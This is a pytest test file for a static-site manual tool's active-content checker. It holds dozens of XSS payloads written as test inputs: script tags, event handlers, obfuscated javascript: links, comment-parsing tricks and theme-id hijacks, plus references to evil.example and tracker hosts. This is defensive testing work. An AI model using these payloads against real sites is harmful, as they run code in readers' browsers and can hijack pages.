"""Nothing a page author writes runs in a reader's browser (issue 8): `hsms validate` refuses active
content with file:line, the build checks every built page's HTML as a browser parses it, and SVG
drawings in docs/ may not carry scripts, handlers or outside references."""

from __future__ import annotations

import re

import pytest

from hsms_manuals.active_content import html_findings, reserved_id, source_findings, svg_findings
from hsms_manuals.cli import main
from sitekit import REPO, build, default_pages, make_repo, page, site_files, write_manual

# Markdown/HTML written in a page (line 3 of the body) → (field, start of the problem)
REFUSED = {
    "<script>alert(1)</script>": ("html", "<script> is not allowed in a page (it runs code"),
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": ("html", "<script> is not allowed"),
    '<iframe src="https://evil.example"></iframe>': ("html", "<iframe> is not allowed"),
    '<object data="x.swf"></object>': ("html", "<object> is not allowed"),
    '<embed src="x.swf">': ("html", "<embed> is not allowed"),
    '<form action="https://evil.example"><input name="password"></form>': ("html", "<form> is not allowed"),
    '<button formaction="https://evil.example">Go</button>': ("html", "<button> is not allowed"),
    "<style>.hsms-emergency { display: none }</style>": ("html", "<style> is not allowed in a page (a style sheet"),
    '<p style="position:fixed;top:0">Call 555-0199</p>': ("html", "'style=' is not allowed in a page"),
    '<link rel="stylesheet" href="https://evil.example/x.css">': ("html", "<link> is not allowed"),
    '<meta http-equiv="refresh" content="0;url=https://evil.example">': ("html", "<meta> is not allowed"),
    '<base href="https://evil.example/">': ("html", "<base> is not allowed"),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>': (
        "html",
        "<noscript> is not allowed",
    ),
    "<template><script>alert(1)</script></template>": ("html", "<template> is not allowed"),
    '<img src="x.png" onerror="alert(1)">': ("html", "'onerror=' is not allowed in a page (an event handler"),
    "<div OnMouseOver=alert(1)>x</div>": ("html", "'onmouseover=' is not allowed"),
    "<details open ontoggle=alert(1)><summary>x</summary></details>": ("html", "'ontoggle=' is not allowed"),
    '<a href="javascript:alert(1)">x</a>': ("html", "a 'javascript:' address is not allowed"),
    '<a href="  JaVa&#x53;cript&colon;alert(1)">x</a>': ("html", "a 'javascript:' address is not allowed"),
    '<a href="java\tscript:alert(1)">x</a>': ("html", "a 'javascript:' address is not allowed"),
    '<a href="vbscript:msgbox(1)">x</a>': ("html", "a 'vbscript:' address is not allowed"),
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>': ("html", "a 'data:' address is not allowed"),
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': ("html", "a 'javascript:' address"),
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>': ("html", "<animate> is not allowed"),
    '<svg onload="alert(1)"></svg>': ("html", "'onload=' is not allowed"),
    "<!-- x --!> <img src=x> -->": ("html", "an HTML comment holding markup or '--' is not allowed"),
    # Python's parser ends this comment at "-- >"; a browser reads on to "-->".
    "<!-- -- ><p class=\"print-only\">--></p><img alt='--><div id=__config>{}</div>'>": (
        "html",
        "an HTML comment holding markup or '--' is not allowed",
    ),
    "## Main {: onclick=alert(1) }": ("attr_list", "'onclick=' is not allowed"),
    '[Call us](tel:911){ onmouseover="alert(1)" }': ("attr_list", "'onmouseover=' is not allowed"),
    '[Policy](01-policy.md){ href="javascript:alert(1)" }': ("attr_list", "a 'javascript:' address is not allowed"),
    'Text {: style="display:none" }': ("attr_list", "'style=' is not allowed"),
    "[click](javascript:alert(1))": ("link", "a 'javascript:' address is not allowed"),
    "[click]( JAVASCRIPT:alert(1) )": ("link", "a 'javascript:' address is not allowed"),
    "[click](jav&#x61;script:alert(1))": ("link", "a 'javascript:' address is not allowed"),
    "[click](javascript&#58;alert(1))": ("link", "a 'javascript:' address is not allowed"),
    "![x](data:text/html;base64,PHNjcmlwdD4=)": ("link", "a 'data:' address is not allowed"),
    "[ref]: vbscript:msgbox(1)": ("link", "a 'vbscript:' address is not allowed"),
    # The theme's own ids and attributes: an element under one is found instead of the theme's.
    '<div id="__config" hidden markdown>{"features": ["content.tooltips"]}</div>': (
        "html",
        "the id '__config' is the theme's own",
    ),
    "## Settings {: #__config }": ("attr_list", "the id '__config' is the theme's own"),
    "## Settings {#__search .wide}": ("attr_list", "the id '__search' is the theme's own"),
    '<p id="hsms-sos">Call 555-0199</p>': ("html", "the id 'hsms-sos' is the theme's own"),
    '<div data-md-component="announce">x</div>': ("html", "'data-md-component=' is not allowed"),
    'Text {: data-md-color-scheme="slate" }': ("attr_list", "'data-md-color-scheme=' is not allowed"),
    '<img src="images/muster.png" alt="Muster" name="getElementById">': ("html", "'name=' on a picture"),
    # Material loads mermaid.js from unpkg.com for any pre.mermaid, and runs it on the site's origin.
    '<pre class="mermaid">graph LR\n  Worker --- Foreman\n</pre>': ("html", "the class 'mermaid' is not allowed"),
    "Diagram {: .wide .Mermaid }": ("attr_list", "the class 'mermaid' is not allowed"),
    # Drawn from another site by the browser itself: a tracker, or a picture swapped after approval.
    "![Muster point](https://tracker.example/m.png)": ("link", "'https://tracker.example/m.png' is drawn from outside"),
    "![Muster point][map]\n\n[map]: https://tracker.example/m.png": (
        "link",
        "'https://tracker.example/m.png' is drawn from outside",
    ),
    '<img srcset="http://tracker.example/b.png 1x" src="images/muster.png" alt="dot">': (
        "html",
        "'http://tracker.example/b.png' is drawn from outside",
    ),
    '<table background="http://tracker.example/h.png"><tr><td>x</td></tr></table>': ("html", "'http://tracker"),
    '<a href="https://www.worksafebc.com" ping="https://tracker.example/g">WorkSafeBC</a>': ("html", "'https://tr"),
    '<svg><rect fill="url(http://tracker.example/j.svg#p)"/></svg>': ("html", "'http://tracker.example/j.svg#p' is"),
    '<svg><image href="//tracker.example/i.png"/></svg>': ("html", "'//tracker.example/i.png' is drawn from outside"),
    "![Map](images/map.png){ srcset='https://tracker.example/2.png 2x' }": ("attr_list", "'https://tracker.exam"),
    # A presentation attribute is CSS: its escapes are undone before it is judged.
    '<svg><rect mask="\\75 rl(http://tracker.example/m.png)"/></svg>': ("html", "'http://tracker.example/m.png'"),
    '<svg><rect fill="url(\\68ttp://tracker.example/f#a)"/></svg>': ("html", "'http://tracker.example/f#a' is"),
    "<svg><rect clip-path=\"url('\\2f\\2f tracker.example/c.svg#c')\"/></svg>": ("html", "'//tracker.example/c"),
    "<svg><rect mask=\"image-set('https://tracker.example/i.png' 1x)\"/></svg>": ("html", "'image-set('https://"),
}

ALLOWED = [
    "```html\n<script>alert('shown as code')</script>\n```",
    "~~~\n<iframe src=x></iframe>\n~~~",
    "Type `<script>` or `onclick=` in code.",
    '<div class="grid" markdown>\n**Bold** text\n</div>',
    '<img src="images/muster.png" alt="Muster point" width="300">',
    "![Muster point](images/muster.png){ width=300 }",
    "![Dot](data:image/png;base64,iVBORw0KGgo=)",
    "## Section { #section .wide }",
    "## HSMS policy { #hsms-policy }",
    '<a id="_muster" name="muster-point"></a>',
    "Room #4 {: .wide }",
    '<img src="images/muster.png" srcset="images/muster.png 1x, images/muster-2x.png 2x" alt="Muster">',
    "[WorkSafeBC's poster](https://www.worksafebc.com/poster.png) and <https://www.worksafebc.com/x.png>",
    '<svg><rect fill="url(#stripes)"/></svg>',
    "![Hazard image(s) from url(www.worksafebc.com)](images/hazards.png)",
    "[Policy](01-policy.md#our-promise) and [WorkSafe](https://www.worksafebc.com) and [call](tel:911)",
    "<details><summary>More</summary>Text</details>",
    "| Left | Right |\n|:---|---:|\n| a | b |",
    "Fine: {{ company.name }} and a < b > c, a one = two.",
]


@pytest.mark.parametrize("markdown", REFUSED)
def test_active_content_in_a_page_is_refused_with_its_line(markdown):
    field, problem = REFUSED[markdown]
    found = source_findings(f"Intro.\n\n{markdown}\n\nMore text.\n")
    assert (3, field, problem) in [(f.line, f.field, f.problem[: len(problem)]) for f in found], found
    assert {f.line for f in found} == {3}, found


@pytest.mark.parametrize("markdown", ALLOWED)
def test_ordinary_markdown_and_html_pass(markdown):
    assert source_findings(f"Intro.\n\n{markdown}\n") == []


@pytest.mark.parametrize(
    "built_html, problem",
    [
        ('<p>x</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "<noscript>"),
        ("<p><!-- x --!><img src=x onerror=alert(1)> --></p>", "'onerror='"),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>", "<style>"),
        ('<p><a href="&#106;avascript:alert(1)">x</a></p>', "a 'javascript:' address"),
        ('<math><a xlink:href="javascript:alert(1)">x</a></math>', "a 'javascript:' address"),
        ('<table><tr><td style="color: red">x</td></tr></table>', "'style='"),
        ('<h2 id="__config">{"base": "https://evil.example"}</h2>', "the id '__config' is the theme's own"),
        ('<pre class="mermaid">graph LR</pre>', "the class 'mermaid' is not allowed"),
    ],
)
def test_the_build_backstop_reads_html_as_browsers_do(built_html, problem):
    assert [f.problem[: len(problem)] for f in html_findings(built_html)][:1] == [problem]


def test_the_build_backstop_accepts_what_markdown_itself_writes():
    assert (
        html_findings(
            '<table><thead><tr><th style="text-align: left;">a</th><th style="text-align: right;">b'
            '</th></tr></thead></table><div class="hsms-chart"><svg viewBox="0 0 10 10" role="img">'
            '<text x="1" y="2" class="hsms-svg-label">A</text><rect x="1" y="1" width="2" height="2"/>'
            "</svg></div><pre><code>&lt;script&gt;</code></pre>"
        )
        == []
    )


def test_validate_lists_every_active_content_line(tmp_path, capsys):
    root = make_repo(tmp_path)
    write_manual(
        root,
        "m",
        pages=default_pages()
        | {
            "03-bad.md": page(
                "Bad",
                "Fine text.\n\n<script>alert(1)</script>\n\n## Call {: onclick=alert(1) }\n\n[x](javascript:alert(1))",
            )
        },
    )
    capsys.readouterr()
    assert main(["--root", str(root), "validate", "m"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "manuals/m/docs/03-bad.md:10: html: <script> is not allowed in a page (it runs code in the reader's "
        "browser) — remove it; write the content in Markdown",
        "manuals/m/docs/03-bad.md:12: attr_list: 'onclick=' is not allowed in a page (an event handler runs code "
        "in the reader's browser) — remove the attribute",
        "manuals/m/docs/03-bad.md:14: link: a 'javascript:' address is not allowed in a page (it runs code or shows "
        "content the checks cannot see) — link to a page of the manual or an https:// address; put pictures in docs/",
        "3 problem(s) found; nothing is published until they are fixed.",
    ]


def test_a_page_with_active_content_never_builds(tmp_path, capsys):
    root = make_repo(tmp_path)
    write_manual(root, "m", pages=default_pages() | {"03-bad.md": page("Bad", '<img src=x onerror="alert(1)">')})
    assert build(root, "m") == 1
    assert "manuals/m/docs/03-bad.md:8: html: 'onerror=' is not allowed in a page" in capsys.readouterr().err
    assert not (root / "site" / "m").exists()


def test_the_build_checks_the_html_even_if_validation_missed_it(tmp_path, capsys, monkeypatch):
    import hsms_manuals.page_rules as page_rules

    monkeypatch.setattr(page_rules, "source_findings", lambda body: [])  # the first wall down
    root = make_repo(tmp_path)
    write_manual(root, "m", pages=default_pages() | {"03-bad.md": page("Bad", "Hi <script>alert(1)</script>")})
    assert build(root, "m") == 1
    assert (
        "manuals/m/docs/03-bad.md: built page: <script> is not allowed in a page (it runs code in the reader's "
        "browser) — remove it; write the content in Markdown"
    ) in capsys.readouterr().err
    assert not (root / "site" / "m").exists()


def test_what_is_published_is_checked_after_the_print_only_cut(tmp_path, capsys, monkeypatch):
    """Python's parser (which makes the cut) ends a comment at "-- >", a browser at "-->": the cut
    of a print-only block took the "-->" away, and a div the check had read as text in an alt
    became live HTML (Material read its settings from it: script on the site's origin)."""
    import hsms_manuals.page_rules as page_rules

    monkeypatch.setattr(page_rules, "source_findings", lambda body: [])  # the first wall down
    root = make_repo(tmp_path)
    trick = "<!-- -- ><p class=\"print-only\">--></p><img alt='--><div id=__config>{}</div>'>"
    write_manual(root, "m", pages=default_pages() | {"03-bad.md": page("Bad", f"Hi.\n\n{trick}\n")})
    assert build(root, "m") == 1
    assert (
        "manuals/m/docs/03-bad.md: built page: the id '__config' is the theme's own (the page would take over "
        "its settings or controls)"
    ) in capsys.readouterr().err
    assert not (root / "site" / "m").exists()


def test_a_folder_name_prints_as_text_in_the_navigation(tmp_path):
    root = make_repo(tmp_path)
    write_manual(
        root,
        "m",
        pages=default_pages() | {"<img src=x onerror=alert(1)>/01-a.md": page("Page in an odd folder", "Text.")},
    )
    assert build(root, "m") == 0
    for f in site_files(root / "site" / "m", ".html"):
        assert "<img src=x onerror" not in f.read_text(encoding="utf-8"), f


# --- SVG drawings in docs/ ----------------------------------------------------------------------

CLEAN_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
  <title>Muster point</title>
  <style>.a { fill: url(#g); }</style>
  <defs><linearGradient id="g"/></defs>
  <rect class="a" width="10" height="10" style="stroke:#000"/><use xlink:href="#g"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <animate attributeName="opacity" from="0" to="1" dur="1s"/>
</svg>
"""


@pytest.mark.parametrize(
    "line, problem",
    [
        ("<script>alert(1)</script>", "the drawing has <script>"),
        ('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>', "the drawing has <script>"),
        ('<rect onclick="alert(1)"/>', "the drawing has an event handler 'onclick='"),
        ('<image href="https://tracker.example/p.png"/>', "the drawing refers to 'https://tracker.example/p.png'"),
        ('<use xlink:href="other.svg#a"/>', "the drawing refers to 'other.svg#a'"),
        ('<a href="javascript:alert(1)"><text>x</text></a>', "the drawing refers to 'javascript:alert(1)'"),
        ('<foreignObject><iframe src="x"></iframe></foreignObject>', "the drawing has <foreignobject>"),
        ('<set attributeName="href" to="javascript:alert(1)"/>', "the drawing has <set>"),
        ('<rect style="fill: url(https://tracker.example/x)"/>', "the drawing loads an outside file from its styles"),
        # A pattern over the text took the comment's <x a=" for a tag whose value swallowed the script.
        ('<!-- <x a=" --><script>alert(1)</script><!-- " -->', "the drawing has <script>"),
        ('<rect x="1" x="2"/>', "the drawing cannot be read as XML: duplicate attribute"),  # shown up to the error
        ('<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a>', "the drawing refers to 'javascript:alert(1)'"),
        # CSS escapes and XML references undone, as the browser undoes them.
        ('<style>@\\69mport "https://tracker.example/x.css";</style>', "the drawing loads an outside file from its"),
        ('<style>@&#x69;mport "https://tracker.example/x.css";</style>', "the drawing loads an outside file from its"),
        ('<rect mask="\\75 rl(https://tracker.example/m.png)"/>', "the drawing loads an outside file from its"),
        (
            '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>',
            "the drawing has HTML in it (<meta>)",
        ),
        ('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>', "the drawing has <script>"),
        ('<animate attributeName=" href" values="#;javascript:alert(1)"/>', "the drawing has <animate>"),
    ],
)
def test_svg_drawings_that_run_code_or_reach_out_are_refused(line, problem):
    text = CLEAN_SVG.replace("</svg>", line + "\n</svg>")
    found = svg_findings(text)
    assert (9, problem) in [(f.line, f.problem[: len(problem)]) for f in found], found
    assert {f.line for f in found} == {9}, found


def test_a_clean_drawing_passes():
    assert svg_findings(CLEAN_SVG) == []


def test_words_that_look_like_css_outside_a_style_are_text():
    assert svg_findings(CLEAN_SVG.replace("</svg>", "<text>See url(www.example.ca) and @import</text></svg>")) == []


def test_markup_in_comments_and_cdata_is_text():
    text = CLEAN_SVG.replace("</svg>", "<!-- <script>x</script> --><text><![CDATA[<script>x</script>]]></text></svg>")
    assert svg_findings(text) == []


def test_validate_refuses_a_scripted_svg_even_in_utf16(tmp_path, capsys):
    root = make_repo(tmp_path)
    mdir = write_manual(
        root,
        "m",
        pages=default_pages() | {"03-maps.md": page("Maps", "![Map](images/map.svg)\n\n![Yard](images/bad.svg)")},
    )
    (mdir / "docs" / "images").mkdir()
    (mdir / "docs" / "images" / "map.svg").write_text(CLEAN_SVG, encoding="utf-8")
    (mdir / "docs" / "images" / "bad.svg").write_bytes(
        CLEAN_SVG.replace("<title>", "<script>alert(1)</script><title>").encode("utf-16")
    )
    capsys.readouterr()
    assert main(["--root", str(root), "validate", "m"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "manuals/m/docs/images/bad.svg:3: svg: the drawing has <script> (it runs code in the reader's browser) — "
        "save the drawing without scripts, links or outside images (e.g. Inkscape: Save As → Plain SVG)",
        "1 problem(s) found; nothing is published until they are fixed.",
    ]


def test_every_id_of_the_theme_templates_is_reserved():
    """A new id in overrides/ must be one a page cannot take (add it to HSMS_IDS, or start it with __)."""
    ids = set()
    for template in (REPO / "overrides").rglob("*.html"):
        ids |= set(re.findall(r'\bid="([^"{]+)"', template.read_text(encoding="utf-8")))
    assert ids and all(reserved_id(i) for i in ids), sorted(i for i in ids if not reserved_id(i))
    nav = (REPO / "overrides" / "partials" / "hsms-nav.html").read_text(encoding="utf-8")
    assert 'id="{{ path }}"' in nav and '"__nav_" ~ loop.index' in nav  # the sidebar's ids start with __
